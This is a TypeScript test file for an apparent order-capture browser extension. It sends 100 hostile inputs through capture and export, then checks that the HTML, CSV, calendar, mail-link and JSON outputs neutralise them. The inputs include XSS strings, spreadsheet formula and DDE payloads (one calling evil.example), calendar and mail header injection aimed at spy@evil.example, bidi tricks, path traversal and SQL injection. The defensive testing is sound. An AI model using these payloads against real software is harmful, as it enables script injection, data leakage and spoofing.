// 100 captures of hostile words through the worker into every export: opened by the programs that users open them with,
// nothing runs, nothing is injected, nothing hides.
import './fake-browser';

import { createHash } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { unzipSync } from 'fflate';
import { Window } from 'happy-dom';
import ICAL from 'ical.js';
import { beforeAll, describe, expect, test } from 'vitest';
import { csv } from '../../utils/csv';
import { readAllOrders, readCase, readReceipt, readReceipts } from '../../utils/db';
import { evidencePack } from '../../utils/evidence';
import type { EvidenceInput } from '../../utils/evidence/input';
import { handle } from '../../utils/handlers';
import { writeLetter } from '../../utils/letter';
import { mailLink } from '../../utils/mail-link';
import type { Case, OrderId } from '../../utils/model';
import { nextStep } from '../../utils/next-step';
import { freshBrowser, fromOwnPage, fromPage, state } from './fake-browser';

const now = new Date('2026-12-02T01:00:00Z');
const count = 100;

const words = [
  '<img src=x onerror="alert(1)">',
  '"><script>alert(1)</script>',
  '</title></pre><svg/onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '=HYPERLINK("http://evil.example","x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1-2',
  '\t=1+1',
  'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nURL:http://evil.example',
  'x\nBcc: spy@evil.example\n\nbody',
  '%0D%0ABcc:spy@evil.example',
  '\u202egnp.exe\u202c \u2066x\u2069',
  'a\u200bb\u200cc\u2060d\ufeffe\u00adf',
  'раураl.com Αpple 네이버‮',
  '../../../../etc/passwd',
  'CON.txt:stream\u0000.exe',
  '{{seller}} $& $1 \\n',
  '__proto__',
  '"; DROP TABLE orders; --',
  '\u{e0041}\u{e0042}tag',
];

/** Everything that reorders, hides or controls, but line breaks and tabs. */
const hidden = /(?![\t\r\n\ufeff])[\p{Cc}\p{Cf}]|(?<!^)\ufeff/u;

/** Each box of an order filled with one hostile text. */
function facts(n: number) {
  const word = words[n % words.length] ?? '';
  const total = { amount: 1_000 + n, currency: 'KRW' };
  return {
    number: `${word}-${n}`,
    orderedOn: '2026-11-16',
    total,
    items: [{ name: word, option: word, quantity: 2, unitPrice: total }],
    payment: { kind: 'card', label: word },
    status: { kind: 'paid', label: word },
    delivery: { carrier: word, trackingNumber: word },
    seller: {
      name: `상점 ${word}`,
      representative: word,
      address: word,
      phone: word,
      email: word,
      businessNumber: word,
      channels: [
        { kind: 'kakao', href: 'javascript:alert(1)', label: word },
        { kind: 'email', href: 'mailto:a@b.example%0d%0abcc:spy@evil.example?bcc=spy@evil.example', label: word },
        { kind: 'form', href: 'https://xn--80ak6aa92e.example/', label: word },
      ],
    },
    sources: { total: { reader: 'labels', quote: word, confidence: 0.9 } },
  };
}

const cases: { one: Case; input: EvidenceInput; files: Record<string, Uint8Array>; name: string }[] = [];
const text = (bytes: Uint8Array | undefined) => new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
const texts = () =>
  cases.flatMap(({ files }) => Object.entries(files).map(([name, bytes]) => [name, text(bytes)] as const));
const hash = async (bytes: Uint8Array | string) => createHash('sha256').update(bytes).digest('hex');

beforeAll(async () => {
  await freshBrowser();
  state.origins = ['<all_urls>'];
  for (let n = 0; n < count; n++) {
    const word = words[n % words.length] ?? '';
    const url = `https://shop${n}.example/order/${n}?q=${encodeURIComponent(word)}`;
    const html = `<p>${word.replaceAll('<', '&lt;')}</p>`;
    const request = {
      asked: false,
      capture: { page: 'order-complete', orders: [facts(n)] },
      receipt: {
        title: word,
        text: `${word}\n총 결제금액 ${1_000 + n}원`,
        // What a page could only send if it had broken out of its own world.
        html:
          n % 2
            ? html
            : `${html}<script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a>`,
        viewport: { width: 1, height: 1 },
        documents: [{ label: word, href: 'javascript:alert(1)' }],
      },
    };
    const reply = (await handle(
      { name: 'capture-proposed', request } as never,
      fromPage(url, { tab: { id: n, url } }) as never,
    )) as {
      orderIds?: OrderId[];
    };
    const [id] = reply.orderIds ?? [];
    if (!id) throw new Error(`${JSON.stringify(word)} was not stored: ${JSON.stringify(reply)}`);
    const at = '2026-11-24T01:00:00.000Z';
    const events = [
      {
        id: `a${n}`,
        at,
        kind: 'contact-attempted',
        channel: 'email',
        outcome: 'sent',
        href: 'javascript:alert(1)',
        text: word,
        note: word,
      },
      { id: `b${n}`, at, kind: 'seller-replied', substance: 'empty', text: word },
      { id: `c${n}`, at, kind: 'noted', text: word },
    ];
    await handle({ name: 'events-added', request: { caseId: id, events } } as never, fromOwnPage() as never);
    const one = (await readCase(id)) as Case;
    const heads = await readReceipts(id);
    const receipts = await Promise.all(heads.map((head) => readReceipt(head.id)));
    const bytes = new TextEncoder().encode('png');
    const input: EvidenceInput = {
      case: one,
      receipts: receipts.filter((receipt) => receipt !== undefined),
      files: [{ id: `f${n}`, name: word, type: 'image/png', bytes, sha256: await hash(bytes) }],
      deadlines: nextStep(one, now).deadlines,
      sender: { name: '김연습' },
      preset: '1372',
      language: n % 3 === 0 ? 'ko' : n % 3 === 1 ? 'en' : 'ja',
      now,
    };
    const pack = await evidencePack(input, hash);
    cases.push({ one, input, files: unzipSync(pack.bytes), name: pack.name });
  }
}, 120_000);

test('names, inside and out, are plain', () => {
  const names = cases.flatMap(({ name, files }) => [name, ...Object.keys(files)]);
  expect(names.length).toBeGreaterThan(count * 8);
  expect(names.filter((name) => !/^[A-Za-z0-9][\w.-]{0,90}$/.test(name) || name.includes('..'))).toEqual([]);
});

test('no text reorders, hides or controls', () => {
  // What the user typed is the user's; what a page said is clean in every file.
  const own = /"(?:text|note|name)": /;
  const wrong = texts().flatMap(([name, content]) =>
    content
      .split('\n')
      .filter((line) => hidden.test(line) && !own.test(line))
      .map((line) => `${name}: ${JSON.stringify(line)}`),
  );
  expect(wrong).toEqual([]);
});

test('no page runs, loads or leads anywhere but to the web, the phone and the mail', () => {
  const pages = texts().filter(([name]) => name.endsWith('.html'));
  expect(pages.length).toBeGreaterThanOrEqual(count * 2);
  for (const [name, content] of pages) {
    const window = new Window({ settings: { disableJavaScriptEvaluation: true } as never });
    window.document.write(content);
    const { document } = window;
    const policy = document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '';
    // Whatever else stands on it, the browser runs and loads nothing: the policy comes before all of the page's words.
    expect(policy, name).toMatch(/^default-src 'none'/);
    expect(policy, name).not.toMatch(/script-src|unsafe-eval|https?:|\*/);
    expect(content.indexOf('Content-Security-Policy'), name).toBeLessThan(300);
    if (name.includes('cover')) {
      expect(document.querySelectorAll('script, iframe, object, embed, form, base, link').length, name).toBe(0);
      const loud = [...document.querySelectorAll('*')].filter((one) =>
        [...one.attributes].some((each) => /^on/i.test(each.name)),
      );
      expect(
        loud.map(({ outerHTML }) => outerHTML),
        name,
      ).toEqual([]);
    }
    for (const link of document.querySelectorAll('a[href]'))
      if (name.includes('cover')) expect(link.getAttribute('href'), name).toMatch(/^(?:https?|tel|mailto):/);
  }
});

test('no cell is a formula, in the pack’s tables and in the list’s', async () => {
  const orders = await readAllOrders();
  const list = csv(
    orders.map(({ facts: { number, items }, site }) => [site, number, items?.map(({ name }) => name).join('; ')]),
  );
  const tables = [...texts().filter(([name]) => name.endsWith('.csv')), ['list.csv', list] as const];
  expect(tables.length).toBeGreaterThan(count * 2);
  for (const [name, content] of tables) {
    const rows = parse(content, { bom: true, relax_column_count: name === 'list.csv' }) as string[][];
    expect(new Set(rows.map(({ length }) => length)).size, name).toBe(1);
    for (const cell of rows.flat())
      expect(/^[\s\u200b\ufeff]*[=+@\t]|^\s*-\D/.test(cell), `${name}: ${JSON.stringify(cell)}`).toBe(false);
  }
});

test('a calendar holds our entries and no other', () => {
  const allowed = new Set(['uid', 'dtstamp', 'dtstart', 'dtend', 'summary', 'description', 'url', 'transp']);
  let entries = 0;
  for (const { files, input } of cases) {
    const calendar = new ICAL.Component(ICAL.parse(text(files['deadlines.ics'])));
    const events = calendar.getAllSubcomponents('vevent');
    expect(events.length).toBe(input.deadlines.length);
    entries += events.length;
    for (const event of events) {
      expect(
        event
          .getAllProperties()
          .filter(({ name }) => !allowed.has(name))
          .map(({ name }) => name),
      ).toEqual([]);
      const url = event.getFirstPropertyValue('url');
      if (url) expect(String(url)).not.toMatch(/evil/);
    }
  }
  expect(entries).toBeGreaterThanOrEqual(count);
});

describe('a letter', () => {
  test('goes by mail to nobody but the one address, with two headers and no more', () => {
    for (const { one } of cases) {
      const { text: body } = writeLetter('kr-inquiry', one, { language: 'ko', now });
      const mails = (one.seller?.facts.channels ?? []).filter(({ kind }) => kind === 'email');
      for (const href of [...mails.map((mail) => mail.href), `mailto:${one.seller?.facts.email ?? ''}`]) {
        const link = mailLink(href, `문의 ${one.order.facts.number}`, body);
        expect(link).toMatch(/^mailto:(?:[^?@%,;\s]+@[\w.-]+)?\?/);
        expect(link).not.toMatch(/[\r\n\s<>"]/);
        const fields = [...new URL(link).searchParams.keys()];
        expect(fields.filter((field) => field !== 'subject' && field !== 'body')).toEqual([]);
        expect(new URL(link).pathname).not.toMatch(/evil/);
      }
    }
  });

  test('is words alone, with every slot filled once', () => {
    for (const { one } of cases) {
      const { text: body, html } = writeLetter('kr-inquiry', one, { language: 'ko', now });
      expect(body).not.toMatch(hidden);
      const window = new Window({ settings: { disableJavaScriptEvaluation: true } as never });
      window.document.write(html);
      const tags = new Set([...window.document.body.querySelectorAll('*')].map(({ localName }) => localName));
      expect([...tags].filter((tag) => !/^(?:p|br|div|span|strong|b|ul|ol|li)$/.test(tag))).toEqual([]);
    }
  });
});

test('case.json holds the case, and no link that could run', () => {
  for (const { files, one } of cases) {
    const told = JSON.parse(text(files['case.json']));
    expect(told.case.id).toBe(one.id);
    const links = JSON.stringify(told).match(/"(?:href|url)":"[^"]*"/g) ?? [];
    expect(links.filter((link) => !/:"(?:https?|tel|mailto|sms):/.test(link))).toEqual([]);
  }
});
